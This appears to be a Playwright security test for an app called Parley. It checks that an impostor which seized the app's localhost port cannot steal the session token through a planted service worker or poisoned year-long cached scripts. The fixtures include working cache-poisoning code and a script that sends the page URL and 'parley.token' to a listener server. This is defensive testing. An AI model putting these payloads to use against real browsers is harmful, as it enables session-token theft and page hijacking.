/**
 * Another user of the machine occupied the port while Parley wasn't running, and left what it could in the person's
 * browser.
 */
import { once } from 'node:events'
import { readdirSync } from 'node:fs'
import { mkdtemp, rm } from 'node:fs/promises'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type BrowserContext, expect, type Page, test } from '@playwright/test'
import { inProject } from '../scripts/lib/project.mjs'
import { HostProcess } from './lib/host-process.ts'

let folder: string
let host: HostProcess
/** Receives reports from the impostor's code. */
let ear: Server
let heard: string[]

test.beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'parley-impostor-'))
  host = new HostProcess(join(folder, 'profile'), null)
  heard = []
  ear = await serve(0, ({ url = '' }, response) => {
    heard.push(decodeURIComponent(url))
    response.end()
  })
})

test.afterEach(async () => {
  await host.kill()
  await close(ear)
  await rm(folder, { recursive: true, force: true })
})

async function serve(
  port: number,
  answer: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<Server> {
  const server = createServer(answer).listen(port, '127.0.0.1')
  await once(server, 'listening')
  return server
}

async function close(server: Server): Promise<void> {
  const closed = once(server, 'close')
  server.close()
  server.closeAllConnections()
  await closed
}

const portOf = (server: Server): number => (server.address() as AddressInfo).port

/**
 * Code that reports its findings to the impostor: a code or token in the address or in the session. No policy keeps a
 * page from navigating away.
 */
const spy = (how: string) =>
  `location.href = 'http://127.0.0.1:${portOf(ear)}/' + encodeURIComponent('${how} ' + location.href + ' ' + sessionStorage.getItem('parley.token'))`

const ASSETS = readdirSync(inProject('dist/renderer/assets'))
  .filter((name) => name.endsWith('.js'))
  .map((name) => `/assets/${name}`)

/** An impostor's page on this port: the browser caches its responses for a year. */
function impostor(port: number, withWorker: boolean): Promise<Server> {
  const evil = `<!doctype html><title>Evil</title><script>${spy('page')}</script>`
  const worker = `
    addEventListener('install', () => skipWaiting())
    addEventListener('activate', (event) => event.waitUntil(clients.claim()))
    addEventListener('fetch', (event) => {
      if (event.request.mode !== 'navigate') return
      event.respondWith(new Response(${JSON.stringify(evil)}, { headers: { 'Content-Type': 'text/html' } }))
    })`
  const begin = `<!doctype html><title>Evil</title><script type="module">
    await Promise.all(${JSON.stringify(ASSETS)}.map((name) => fetch(name, { cache: 'reload' }).then((got) => got.text())))
    if (${withWorker}) {
      await navigator.serviceWorker.register('/worker.js')
      await navigator.serviceWorker.ready
    }
    localStorage.setItem('left', 'something')
    document.title = 'Ready'
  </script>`
  return serve(port, ({ url }, response) => {
    const isCode = url?.endsWith('.js') === true
    const kept = url?.startsWith('/assets/') ? 'public, max-age=31536000, immutable' : 'no-store'
    const type = isCode ? 'text/javascript' : 'text/html'
    response.writeHead(200, { 'Content-Type': type, 'Cache-Control': kept, 'Access-Control-Allow-Origin': '*' })
    if (url === '/worker.js') response.end(worker)
    else response.end(isCode ? spy('script') : begin)
  })
}

/** Opens the impostor on Parley's port in the person's browser, like an old tab. */
async function poison(context: BrowserContext, withWorker: boolean): Promise<Page> {
  await host.start()
  const port = Number(host.address.port)
  await host.stop()
  const server = await impostor(port, withWorker)
  const page = await context.newPage()
  await page.goto(`http://127.0.0.1:${port}/`)
  await expect(page).toHaveTitle('Ready')
  await close(server)
  await host.start()
  expect(host.address.port).toBe(String(port))
  return page
}

const expectParley = (page: Page) => expect(page.getByRole('textbox').first()).toBeVisible()

for (const withWorker of [true, false]) {
  const what = withWorker ? 'service worker' : 'scripts in the cache'
  test(`an impostor's ${what} gets neither the token nor the code of the next run`, async ({ context, page }) => {
    const left = await poison(context, withWorker)
    for (const address of [host.printed.href, host.opened()]) {
      await page.goto(address)
      await page.waitForURL(`${host.address.origin}/`)
      await expectParley(page)
      const kept = await page.evaluate(async () => ({
        workers: (await navigator.serviceWorker.getRegistrations()).length,
        values: localStorage.length,
      }))
      expect(kept).toEqual({ workers: 0, values: 0 })
    }
    // The old tab still shows the impostor, and shows Parley once it is reloaded.
    expect(await left.title()).toBe('Ready')
    await page.reload()
    await expectParley(page)
    expect(heard).toEqual([])
  })
}

test('a window stays signed in after a reload, even if another was opened in between', async ({ context, page }) => {
  await host.start()
  await page.goto(host.printed.href)
  await expectParley(page)
  const other = await context.newPage()
  await other.goto(host.printed.href)
  await expectParley(other)
  await page.reload()
  await expectParley(page)
})
